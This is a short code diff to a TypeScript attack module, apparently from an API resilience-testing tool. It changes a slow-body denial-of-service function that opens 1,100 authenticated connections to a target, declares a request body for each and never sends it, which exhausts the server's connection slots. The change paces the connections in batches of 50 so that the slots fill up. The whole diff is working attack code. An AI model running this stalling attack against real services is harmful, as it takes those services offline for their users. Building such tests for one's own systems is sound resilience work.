@@ -4,15 +4,20 @@ import { bearer, request } from './requests.ts';
 
 /** More than the slots that a service has by default. */
 const connections = 1_100;
+const atOnce = 50;
 
 /** Begins 1,100 bodies with one key, and sends nothing of them. */
 export const stallBodies: Attack = (target) =>
-  withSockets(target, async ({ open, untilOver }) => {
+  withSockets(target, async ({ open, wait, untilOver }) => {
     const head = request('POST /v1/pets', [
       bearer(target.apiKey),
       'Content-Type: application/json',
       'Content-Length: 100',
     ]);
-    await Promise.all(Array.from({ length: connections }, async () => write(await open(), head)));
+    // Little by little: it is the slots that are to be taken, not the time to accept connections.
+    for (let opened = 0; opened < connections; opened += atOnce) {
+      await Promise.all(Array.from({ length: atOnce }, async () => write(await open(), head)));
+      await wait(50);
+    }
     await untilOver();
   });
